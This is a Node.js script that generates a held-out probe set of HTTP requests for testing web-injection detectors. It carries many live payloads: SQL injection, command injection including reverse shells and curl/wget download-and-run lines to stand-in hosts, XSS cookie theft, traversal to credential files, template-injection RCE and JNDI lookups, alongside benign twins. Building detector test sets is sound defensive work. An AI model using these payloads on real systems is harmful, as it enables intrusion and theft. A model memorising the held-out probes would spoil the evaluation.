// Hand-written held-out probes for the injection detectors: raw requests in the shape `gatehouse detect`
// reads, each carrying one attack (or one legitimate value) in one of the places a value can arrive.
//
// THESE ARE A TEST SET, NEVER A TUNING SET. They were written before the detectors they measure, from the
// kinds of attack the product missed on outside material (issue 21), not from any corpus. When a probe is
// missed, report it; do not change a detector to catch that line. `npm run eval:detect` prints their figures
// apart from the development splits.
//
// `node test/corpora/probes.mjs` rewrites probes.jsonl (deterministic: placements rotate in a fixed order).
import { writeFileSync } from 'node:fs';
import process from 'node:process';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));

const SQLI = [
  "1' or '1'='1", '1 OR 1=1', "x' OR 1=1-- -", "admin'/*", "1' AND SLEEP(5)#", '1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)',
  '-1 UNION ALL SELECT NULL,NULL,version()-- -', "1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -", "1'/**/UNION/**/SELECT/**/user(),2#",
  "1' UNION SELECT username,password FROM users WHERE '1'='1", "'+(SELECT 0x41)+'", '1;SELECT pg_sleep(5)--',
  "1'; WAITFOR DELAY '00:00:05'--", '1) OR BENCHMARK(5000000,MD5(1))#', "' OR 'x'||'y'='xy", "1'||(SELECT CHR(65))||'",
  '1 AND 1=CONVERT(int,@@version)', "1' AND extractvalue(rand(),concat(0x3a,(select database())))-- ",
  "1' AND updatexml(1,concat(0x7e,user()),1)-- x", '1 and ascii(substring((select password from users limit 1),1,1))>64',
  "1' and length(database())=8-- ", "1'or'1'='1", "1'or(1)=(1)#", "1'||1#", "' or 1 in (select @@version)--",
  '1 uNiOn aLl sElEcT 1,table_name FROM information_schema.tables', "1' union distinctrow select 1,2-- -", '1 union(select(1),(2))',
  "';DROP TABLE orders;--", "1; INSERT INTO users(name,role) VALUES('x','admin')--", "1'; EXEC xp_cmdshell('whoami')--",
  "1' and 1=(select count(*) from tabname); --", "x' and 1=0 union select null,load_file('/etc/passwd')#",
  "1' INTO OUTFILE '/var/www/html/s.php'-- ", '1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)', '1 or sleep(5)',
  "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- x", "1' AND 1=(SELECT 1 FROM PG_SLEEP(5))--",
  '1 AND 7777=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)', "' OR '1'='1' LIMIT 1 --", '1 order by 10-- -', "1' group by 1,2,3-- -",
  "1' having 1=1--", '" or ""="', '") or ("a"="a', '1)) or ((1=1', "x'||(select sqlite_version())||'", "1 AND 1=1 AND 'a'='a",
  'SELECT @@version', "1' AND 'a'=0x61 AND '1'='1", "1' AND MID(VERSION(),1,1)='5", '1 or 1 like 1', "1' or true-- ",
  'select * from users where id=1', "1' and (select 1 from dual where 1=1)='1",
  "1';select/**/case/**/when/**/1=1/**/then/**/pg_sleep(3)/**/end--", "admin' --", "' or username is not null or username = '",
  '1 AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM users LIMIT 0,1),1,1))>64', "1%' AND 1=1 AND '%'='",
  "';shutdown--", "1' AND CAST((SELECT password FROM users LIMIT 1) AS int)--", '1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b',
  "1'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z", '1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)', "1'and'a'='a", '1/**/or/**/2>1',
  "0' or 'a' like 'a", "1');DELETE FROM sessions;--",
];

const CMDI = [
  ';cat /etc/passwd', '| id', '& whoami', '&& uname -a', '|| ls -la /', '$(id)', '`id`', 'x;wget http://198.51.100.7/x.sh -O /tmp/x.sh',
  ';curl -s http://evil.example/a|sh', '127.0.0.1;nc -e /bin/sh 203.0.113.5 4444', ';bash -i >& /dev/tcp/203.0.113.5/8080 0>&1',
  ';/bin/ca? /et?/pa??wd', ';/???/??t /???/p??s??', ';cat /etc/pa[s]swd', ";c'a't /etc/passwd", ';c\\at /e\\tc/pas\\swd',
  ';cat${IFS}/etc/passwd', ';cat$IFS$9/etc/passwd', '`echo${IFS}hello`', 'a$[2+2]b', ';{cat,/etc/passwd}', ';cat</etc/passwd',
  ';echo aWQ=|base64 -d|sh', ';ping -c 10 127.0.0.1', 'a\nid', 'a\ncat /etc/shadow', ';sleep 10;', ';uname$u -a', ';who$@ami',
  'x|/usr/bin/id', ";/bin/bash -c 'id'", ';python -c \'import os;os.system("id")\'', ";perl -e 'exec \"/bin/sh\"'",
  ';php -r \'system("id");\'', ';ls -al>/tmp/o', ';rm -rf /tmp/x', ';chmod +x /tmp/x;/tmp/x', '() { :; }; /bin/bash -c "id"',
  ';iwr http://203.0.113.9/a.ps1 -OutFile a.ps1',
  ';powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  '|powershell.exe -ExecutionPolicy Bypass -Command "Get-Process"', ';Invoke-WebRequest -Uri http://203.0.113.9/x -OutFile x.exe',
  ";iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", ";IEX(iwr 'http://x.example/a.ps1' -UseBasicParsing)",
  '& cmd /c dir C:\\', '| cmd.exe /k whoami', '&type C:\\Windows\\win.ini', '& %COMSPEC% /c ver', '&& net user hacker P@ss /add',
  '| ipconfig /all', '& certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe', '&w^h^o^a^m^i', '& C:\\Windows\\System32\\calc.exe',
  '| dir %SYSTEMROOT%\\system32', "& for /f %i in ('whoami') do echo %i", ';Start-Process calc.exe', '; Get-Content C:\\Windows\\win.ini',
  "x' ; id ; '", '";id;"', ';echo${IFS}$(id)', "1;sleep$IFS'5'", '$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)',
  ';/usr/bin/nslookup attacker.example', '| tail -n 20 /var/log/auth.log', ';$(which curl) http://x.example', ';xterm -display 203.0.113.5:1',
  ';`echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d`', '|| ping -n 5 127.0.0.1', ';/usr/bin/env sh -c id', '%0a/bin/cat%20/etc/passwd',
];

const XSS = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<img src=x onerror=alert(1)>', '<img src=x onerror = "alert(1)">',
  '<img/src=x/onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=confirm(1)//', '<body onpageshow=alert(1)>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>', '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">', '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>">', '<div style="background:url(javascript:alert(1))">',
  '<div style="width:expression(alert(1))">', '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="x:expr/**/ession(alert(1))">', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<svg><set attributeName=href to=javascript:alert(1) />', '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>', '<video><source onerror="alert(1)">', '<img src=x onerror\t=alert(1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>', '"><script>alert(document.cookie)</script>', "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)', "' onmouseover='alert(1)", 'javascript:alert(document.domain)', 'data:text/html,<script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '<scr<script>ipt>alert(1)</script>',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>", '<BODY BACKGROUND="javascript:alert(\'XSS\')">', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">', '<base href="javascript:alert(1)//">', '<embed src="javascript:alert(1)">',
  '<form action=javascript:alert(1)><input type=submit>', '<button formaction=javascript:alert(1)>x', '<isindex type=image src=1 onerror=alert(1)>',
  '<xss onafterscriptexecute=alert(1)>', "';alert(String.fromCharCode(88,83,83))//", '";alert(1);//', '</script><script>alert(1)</script>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '<svg><script>alert&#40;1&#41;</script>', '<a href="vbscript:msgbox(1)">',
  '<div onpointerover="alert(1)">x</div>', '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">', "{{constructor.constructor('alert(1)')()}}",
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<img src=1 oNeRrOr=alert`1`>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">', '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
  '<a href="java\nscript:alert(1)">x</a>', '<img src=x:alert(alt) onerror=eval(src) alt=0>', '<div style="behavior:url(x.htc)">',
  '<table background="javascript:alert(1)">', "document.location='http://evil.example/?c='+document.cookie",
];

const TRAVERSAL = [
  '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252f%252e%252e%252fetc%252fpasswd', '..%c0%af..%c0%afetc/passwd', '..%u2215..%u2215etc%u2215passwd',
  '%uff0e%uff0e/%uff0e%uff0e/etc/shadow', '....//....//....//etc/passwd', '..;/..;/WEB-INF/web.xml', '/etc/passwd', '/etc/shadow',
  'C:\\Windows\\System32\\drivers\\etc\\hosts', 'file:///etc/passwd', '/proc/self/environ', '../../../../../../var/log/apache2/access.log',
  '....\\\\....\\\\boot.ini', '/var/www/../../etc/passwd', '..%5c..%5c..%5cwindows%5cwin.ini', '..%255c..%255cwindows%255cwin.ini',
  '../../../etc/passwd%00.png', 'php://filter/convert.base64-encode/resource=index.php', 'php://input', 'zip://uploads/avatar.jpg#shell.php',
  'expect://id', '\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system.ini', '.%2e/.%2e/.%2e/etc/passwd', '%2e%2e%5c%2e%2e%5cboot.ini',
  '../../../../../../etc/group', '~/.bash_history', '/root/.ssh/authorized_keys', '..//..//..//etc//passwd', 'c:/windows/win.ini',
  '../../../../../../../../../../../../../../../../windows/win.ini', '..%2F..%2F..%2F..%2Fboot.ini',
  '../../../../../../../../etc/hosts%00', '../../../../proc/self/cmdline', '\\..\\..\\..\\..\\boot.ini', '/./././././../../../etc/passwd',
  '..%c1%9c..%c1%9cboot.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/usr/local/app/../../../etc/shadow', '..\\..\\..\\inetpub\\wwwroot\\web.config',
];
/** Traversal that arrives in the URL path itself (the request target, not a parameter). */
const TRAVERSAL_PATHS = [
  '/.git/config', '/.env', '/.htaccess', '/app/.aws/credentials', '/WEB-INF/web.xml', '/wp-config.php.bak', '/.ssh/id_rsa',
  '/static/..%2f..%2f..%2fetc/passwd', '/images/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/%5C../%5C../%5C../etc/passwd',
  '/..%252f..%252f..%252fetc/passwd', '/files/....//....//etc/passwd', '/.svn/entries', '/.DS_Store', '/server-status/../../etc/hosts',
];

const GENERIC = [
  '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '*{7*7}', '{{config.items()}}', "{{''.__class__.__mro__[1].__subclasses__()}}",
  "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", '{% import os %}{{ os.popen("id").read() }}',
  "${T(java.lang.Runtime).getRuntime().exec('id')}", '#{T(java.lang.Runtime).getRuntime().exec("id")}',
  '${"freemarker.template.utility.Execute"?new()("id")}', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
  '{php}echo `id`;{/php}', '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', '@(7*7)', '[[${7*7}]]', '${{7*7}}',
  "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", '${jndi:ldap://203.0.113.7:1389/a}', '${jndi:rmi://evil.example/o}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}', '${${lower:j}ndi:${lower:l}dap://x.example/a}',
  '${${env:NOPE:-j}ndi:ldap://x.example/}', '${j${::-n}di:dns://x.example/}', '${jndi:${lower:d}ns://${env:USER}.x.example}',
  '${${upper:j}${upper:n}di:ldaps://x.example/}', "${${date:'j'}ndi:ldap://x.example/}", "require('child_process').exec('id')",
  "process.mainModule.require('child_process').execSync('id')", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
  "this.constructor.constructor('return process')().exit()", 'eval(String.fromCharCode(97,108,101,114,116,40,49,41))',
  "new Function('return this')()", 'while(true){}', "<?php system($_GET['c']); ?>", '<?=`id`?>', 'phpinfo();', "system('id');",
  "passthru('cat /etc/passwd');", "file_get_contents('/etc/passwd')", "base64_decode('c3lzdGVtKCJpZCIpOw==')", 'java.lang.Runtime.getRuntime().exec("id")',
  'new java.lang.ProcessBuilder("id").start()',
  'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7',
  "__import__('os').system('id')", "eval(compile('import os;os.system(\"id\")','x','exec'))", "Kernel.exec('id')", '${@system("id")}',
  'O:8:"stdClass":1:{s:4:"cmd";s:2:"id";}', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==',
];
/** Generic attacks that only make sense in one place. */
const GENERIC_FIXED = [
  { name: 'proto-json', method: 'POST', uri: '/api/profile', headers: { 'content-type': 'application/json' }, body: '{"name":"x","__proto__":{"isAdmin":true}}' },
  { name: 'proto-query', method: 'GET', uri: '/api/items?constructor[prototype][polluted]=1' },
  { name: 'proto-form', method: 'POST', uri: '/api/items', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: '__proto__[toString]=x' },
  { name: 'spring4shell', method: 'POST', uri: '/app/greeting', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' },
  { name: 'jndi-ua', method: 'GET', uri: '/', headers: { 'user-agent': '${jndi:ldap://x.example/ua}' } },
  { name: 'jndi-header', method: 'GET', uri: '/api/v2/status', headers: { 'x-api-version': '${jndi:ldap://x.example/h}' } },
  { name: 'nosql-json', method: 'POST', uri: '/login', headers: { 'content-type': 'application/json' }, body: '{"user":"admin","pass":{"$ne":null}}' },
  { name: 'nosql-query', method: 'GET', uri: '/login?user=admin&pass[$gt]=' },
  { name: 'nosql-where', method: 'POST', uri: '/search', headers: { 'content-type': 'application/json' }, body: '{"$where":"sleep(5000)"}' },
];

/** Places a value can arrive, rotated over the payloads of each category. */
const PLACES = [
  (v) => ({ method: 'GET', uri: `/shop/search?q=${encodeURIComponent(v)}&page=1` }),
  (v) => ({ method: 'POST', uri: '/shop/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `user=${encodeURIComponent(v)}&remember=on` }),
  (v) => ({ method: 'GET', uri: '/api/orders', headers: { cookie: `theme=dark; session=${encodeURIComponent(v)}` } }),
  (v) => ({ method: 'GET', uri: '/', headers: { 'user-agent': v } }),
  (v) => ({ method: 'POST', uri: '/api/notes', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: 'note', text: v }) }),
  // A form body without any content type: many servers still parse it as a form.
  (v) => ({ method: 'POST', uri: '/cgi-bin/submit', body: `comment=${encodeURIComponent(v)}&ok=1` }),
  (v) => ({ method: 'GET', uri: '/index.html', headers: { referer: `https://shop.example/list?id=${v}` } }),
  (v) => ({ method: 'POST', uri: '/soap/order', headers: { 'content-type': 'text/xml' }, body: `<?xml version="1.0"?><order><item id="7">${escapeXml(v)}</item></order>` }),
  (v) => ({ method: 'POST', uri: '/soap/order', headers: { 'content-type': 'application/xml' }, body: `<order><item name="${escapeXml(v)}"/></order>` }),
  (v) => ({ method: 'GET', uri: '/api/files', headers: { 'x-filename': v.replace(/[\r\n]/g, ' ') } }),
  (v) => ({ method: 'GET', uri: `/api/users/${encodeURIComponent(v)}/profile` }),
  (v) => ({ method: 'GET', uri: `/report?${encodeURIComponent(v)}=1` }),
  (v) => ({
    method: 'POST', uri: '/upload', headers: { 'content-type': 'multipart/form-data; boundary=----b0undary' },
    body: `------b0undary\r\nContent-Disposition: form-data; name="caption"\r\n\r\n${v}\r\n------b0undary--\r\n`,
  }),
  (v) => ({ method: 'GET', uri: '/api/items', headers: { 'x-forwarded-for': `203.0.113.9, ${v.replace(/[\r\n]/g, ' ')}` } }),
  (v) => ({ method: 'POST', uri: '/shop/checkout', headers: { 'content-type': 'application/x-www-form-urlencoded; charset=UTF-8' }, body: `address=${formEncode(v)}&zip=28001` }),
];

function escapeXml(v) {
  return v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}
function formEncode(v) {
  return encodeURIComponent(v).replace(/%20/g, '+');
}

const out = [];
function addAll(category, values, offset) {
  values.forEach((v, i) => {
    const place = PLACES[(i + offset) % PLACES.length];
    out.push({ id: `probe-${category}-${String(i + 1).padStart(3, '0')}`, category, expect_attack: true, ...place(v) });
  });
}
addAll('sqli', SQLI, 0);
addAll('cmdi', CMDI, 3);
addAll('xss', XSS, 6);
addAll('traversal', TRAVERSAL, 9);
TRAVERSAL_PATHS.forEach((p, i) => out.push({ id: `probe-traversal-path-${String(i + 1).padStart(3, '0')}`, category: 'traversal', expect_attack: true, method: 'GET', uri: p }));
out.push({
  id: 'probe-traversal-upload', category: 'traversal', expect_attack: true, method: 'POST', uri: '/upload',
  headers: { 'content-type': 'multipart/form-data; boundary=xYz' },
  body: '--xYz\r\nContent-Disposition: form-data; name="file"; filename="../../../var/www/html/shell.php"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--xYz--\r\n',
});
addAll('generic', GENERIC, 12);
GENERIC_FIXED.forEach((p, i) => {
  const { name, ...req } = p;
  out.push({ id: `probe-generic-fixed-${String(i + 1).padStart(3, '0')}-${name}`, category: 'generic', expect_attack: true, ...req });
});

// Legitimate twins: the shapes real traffic has that look like the attacks above.
const BENIGN = [
  'select your plan', 'Please select the best option and drop me a line.', 'Tom & Jerry', 'a & b', 'fish & chips; more to come', 'rock | pop | jazz',
  "O'Brien", "Miles O'Brien-Smith", "it's 5 o'clock", 'order by price, then by name', 'union station', '1 + 1 = 2', '50% off; today only!',
  '<p>Hello <b>world</b></p>', '<a href="https://example.com/docs">the docs</a>', '<ul><li>one</li><li>two</li></ul>', '<img src="/cat.png" alt="a cat">',
  'docs/guide/intro.md', '../README.md', 'C:\\Users\\Public\\Documents\\report.docx', '/home/alice/photos/2023/beach.jpg',
  'https://shop.example/search?q=red+shoes&sort=price', 'mailto:alice@example.com', 'alice+news@example.co.uk', '{"a":1,"b":[true,null]}',
  'Hello {{first_name}}, your order {{order_id}} has shipped', 'Dear ${name},', 'Cost: $5 (was $7)', 'Run `npm test` before pushing',
  'cat food & dog food', 'Get-Started guide', 'Set-Cookie header explained', 'echo chamber', 'sleep 8 hours a night', 'ping me when you are back',
  'who am i?', 'C# and F# are languages', 'x = y * 2; z = x / 4', 'if (a < b && c > d) { return; }', 'Use <Ctrl>+<C> to copy',
  "Je m'appelle Zoë; j'habite à Paris", 'Calle de Alcalá, 42, 3º B', 'Plaza del Dos de Mayo, 5 - 2ºA', 'Straße 7 / Hinterhaus',
  'The "select" tag lets users pick options', 'Where is my order? It has been 5 days', 'exec summary attached', 'Drop-off at 5pm',
  'my password is "Tr0ub4dor&3"', 'P@ssw0rd!#2024', 'n0t-a-$ecret', '$(document).ready(fn)', 'SELECT * is fine in docs, just kidding',
  'javascript developer, 5 years', 'data science team', 'file: report.pdf', 'Report 2023/2024 - Q1 & Q2',
  'version 1.2.3 (build 45); see changelog', '<3 this shop', 'a<b and b>c', 'CSS: body { color: red; }', '#{hashtag} fun', '7*7=49',
  'Ships to: Madrid, Barcelona & Valencia', 'https://example.com/a/../b', 'wget-style downloads are supported', 'net weight 500 g',
];
const BENIGN_PLACES = PLACES;
BENIGN.forEach((v, i) => {
  const place = BENIGN_PLACES[i % BENIGN_PLACES.length];
  out.push({ id: `probe-benign-${String(i + 1).padStart(3, '0')}`, category: 'benign', expect_attack: false, ...place(v) });
});
// Ordinary requests with the headers browsers and proxies send.
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', 'curl/8.5.0', 'python-requests/2.31.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'okhttp/4.12.0', 'PostmanRuntime/7.37.3',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Go-http-client/1.1', 'Wget/1.21.4', 'Java/17.0.2', 'Apache-HttpClient/4.5.14 (Java/17.0.10)',
];
UAS.forEach((ua, i) => out.push({
  id: `probe-benign-headers-${String(i + 1).padStart(3, '0')}`, category: 'benign', expect_attack: false, method: 'GET',
  uri: `/shop/product/${i + 10}?ref=home&utm_source=news%20letter`,
  headers: {
    'user-agent': ua, accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'accept-language': 'es-ES,es;q=0.9,en;q=0.8',
    referer: `https://shop.example/category/shoes?page=${i}&sort=-price`, cookie: `_ga=GA1.2.1234567.16800${i}; cart=3%3A2%7C7%3A1; lang=es`,
    'x-forwarded-for': `198.51.100.${i}, 10.0.0.${i}`, 'x-forwarded-proto': 'https', 'x-request-id': `4f1c2a9e-${i}`,
  },
}));

writeFileSync(join(here, 'probes.jsonl'), out.map((r) => JSON.stringify(r)).join('\n') + '\n');
process.stdout.write(`probes.jsonl: ${out.filter((r) => r.expect_attack).length} attacks, ${out.filter((r) => !r.expect_attack).length} benign\n`);
